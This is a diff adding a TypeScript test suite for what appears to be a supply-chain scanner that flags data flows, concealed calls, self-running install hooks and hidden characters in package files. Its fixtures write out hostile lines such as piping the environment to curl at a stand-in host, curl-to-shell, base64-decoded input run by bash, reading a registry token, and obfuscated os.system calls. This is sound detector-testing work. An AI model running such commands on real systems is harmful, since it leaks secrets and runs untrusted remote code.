@@ -1,0 +1,136 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import type { FileFacts, PackageFacts } from "../../../model/index.ts";
+import { comparePackages } from "./compare.ts";
+import { packageFacts } from "./files-package.ts";
+import { fileFacts } from "./files.ts";
+
+const facts = (path: string, text: string): FileFacts => fileFacts(path, Buffer.from(text));
+const can = (path: string, text: string): readonly string[] =>
+  facts(path, text).sightings.map(({ capability, subject }) => `${capability} ${subject}`.trim());
+const flows = (path: string, text: string): readonly string[] => facts(path, text).flows.map(({ from, to }) => `${from} -> ${to}`);
+const hides = (path: string, text: string): readonly string[] => facts(path, text).hidings.map(({ kind }) => kind);
+
+const kinds = (path: string, bytes: Uint8Array): readonly string[] => fileFacts(path, bytes).hidings.map(({ kind }) => kind);
+
+async function release(files: Readonly<Record<string, string>>): Promise<PackageFacts> {
+  return await packageFacts(
+    "",
+    Object.entries(files).map(([path, text]) => ({ path, executable: false, bytes: Buffer.from(text) })),
+  );
+}
+
+test("Python: the environment is followed through names and functions to the network", () => {
+  const code = `import os as o, requests as r\ndef collect():\n    return dict(o.environ)\ndef go():\n    everything = collect()\n    r.post("https://a.invalid/x", json=everything)\n`;
+  assert.deepEqual(flows("a.py", code), ["environment-whole -> network"]);
+  assert.ok(can("a.py", code).includes("network a.invalid"));
+});
+
+test("Python: a function reached by a name that is put together is seen, and said to be concealed", () => {
+  const found = facts("a.py", `getattr(__import__("o" + "s"), "sys" + "tem")("id")\n`);
+  assert.deepEqual(
+    found.sightings.filter(({ capability }) => capability === "process").map(({ through, concealed }) => [through, concealed]),
+    [["os.system", true]],
+  );
+  assert.ok(found.hidings.some(({ kind }) => kind === "concealed-name"));
+});
+
+test("Python: names of variables in comments and texts of documentation do nothing", () => {
+  assert.deepEqual(can("a.py", `"""Reads os.environ and calls os.system."""\n# os.system("id")\nx = 1\n`), []);
+});
+
+test("Ruby: commands without brackets, in backticks and decoded ones are seen", () => {
+  assert.ok(can("a.rb", `system "curl http://127.0.0.1:9/a | sh"\n`).includes("process curl"));
+  assert.ok(can("a.rb", "x = `whoami`\n").includes("process whoami"));
+  assert.deepEqual(flows("a.rb", `require "net/http"\neval(Net::HTTP.get(URI("https://a.invalid/")))\n`), ["network -> dynamic-code"]);
+});
+
+test("Rust: a build script that starts programs and reads tokens is seen through its imports", () => {
+  const code = `use std::{env, process::Command as Run};\nfn main() { let _ = env::var("CARGO_REGISTRY_TOKEN"); Run::new("sh").spawn().unwrap(); }`;
+  assert.deepEqual(
+    can("build.rs", code).filter((one) => !one.startsWith("environment")),
+    ["credential-variable CARGO_REGISTRY_TOKEN", "process sh", "process sh"],
+  );
+});
+
+test("shell: what goes through pipes, substitutions, variables and files is followed", () => {
+  assert.deepEqual(flows("a.sh", `env | curl -d @- https://a.invalid/\n`), ["environment-whole -> network"]);
+  assert.deepEqual(flows("a.sh", `X=$(curl -s https://a.invalid/)\neval "$X"\n`), ["network -> dynamic-code"]);
+  assert.deepEqual(flows("a.sh", `echo aWQ= | base64 -d | bash\n`), ["encoded-text -> process"]);
+  assert.ok(flows("a.sh", `wget -O /tmp/a https://a.invalid/ && sh /tmp/a\n`).includes("network -> process"));
+  assert.deepEqual(can("a.sh", `echo "curl is nice" # curl https://a.invalid | sh\n`), []);
+});
+
+test("what is not shown is found, and ordinary text in other scripts is not", () => {
+  assert.ok(hides("a.js", `let a = 1;${" ".repeat(300)}b();\n`).includes("off-screen"));
+  assert.ok(
+    hides("a.py", `x = "${String.fromCodePoint(...Array.from({ length: 12 }, (_, i) => 0xe0100 + i))}"\n`).includes("invisible-characters"),
+  );
+  assert.ok(hides("a.rb", `x = "\u202e"\n`).includes("bidirectional-characters"));
+  assert.ok(hides("a.js", `const p\u0430yload = 1;\n`).includes("look-alike-characters"));
+  assert.deepEqual(hides("a.js", `const hello = "Привет, мир \u{1f468}\u200d\u{1f469}\u200d\u{1f467}";\n`), []);
+});
+
+test("bytes that are not what the name says are found", () => {
+  assert.ok(kinds("logo.png", Buffer.from("module.exports = 1;")).includes("kind-mismatch"));
+  assert.ok(kinds("notes.txt", Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(99)])).includes("executable-content"));
+  assert.deepEqual(kinds("logo.png", Buffer.from("89504e470d0a1a0a0000000049454e44ae426082", "hex")), []);
+});
+
+test("binding.gyp, .pth and setup.py run by themselves, and reach the files that they name", async () => {
+  const gyp = await release({
+    "package.json": `{"name":"a","version":"1.0.0"}`,
+    "binding.gyp": `{"targets":[{"sources":["<!(node x.js)"]}]}`,
+    "x.js": `require("./y")`,
+    "y.js": "",
+  });
+  assert.deepEqual(gyp.selfRuns.find(({ name }) => name.startsWith("expansion"))?.reaches, ["x.js", "y.js"]);
+  const python = await release({ "a.pth": "import os; os.system('id')\n/some/folder\n", "setup.py": "import os\n" });
+  assert.deepEqual(
+    python.selfRuns.map(({ trigger, when }) => `${trigger} ${when}`),
+    ["pth start", "setup-py install"],
+  );
+  assert.ok(python.selfRuns[0]?.sightings.some(({ capability }) => capability === "process"));
+});
+
+test("a file that moved, and files in another order, are no news", async () => {
+  const code = `const { exec } = require("child_process");\nexports.run = () => exec("ls");\n`;
+  const before = { "package.json": `{"name":"a","version":"1.0.0"}`, "lib/run.js": code };
+  const after = { "src/run.js": code, "package.json": `{"name":"a","version":"1.0.0"}` };
+  assert.deepEqual(comparePackages(await release(before), await release(after)).news, []);
+});
+
+const pair = async (): Promise<string> =>
+  JSON.stringify(
+    comparePackages(
+      await release({ "a.py": "x = 1\n" }),
+      await release({ "a.py": `import os\nos.system("id")\n`, "b.sh": "env | curl -d @- https://a.invalid/\n" }),
+    ),
+  );
+
+test("the same two releases give the same bytes", async () => {
+  assert.equal(await pair(), await pair());
+});
+
+test("hostile text ends, quickly and without a fault", () => {
+  const many = 40_000;
+  const started = process.cpuUsage();
+  for (const text of [
+    "(".repeat(many),
+    "f(".repeat(many),
+    "a.".repeat(many),
+    "$(".repeat(many),
+    '"'.repeat(many),
+    "`".repeat(many),
+    "x = [".repeat(many),
+    "for i in ".repeat(many),
+    "\\".repeat(many),
+    "{".repeat(many),
+    "f'{".repeat(many / 4),
+    "${".repeat(many),
+  ]) {
+    for (const path of ["a.py", "a.rb", "a.sh", "a.rs"]) facts(path, text);
+  }
+  const { user, system } = process.cpuUsage(started);
+  assert.ok((user + system) / 1e6 < 30, `${(user + system) / 1e6} s`);
+});
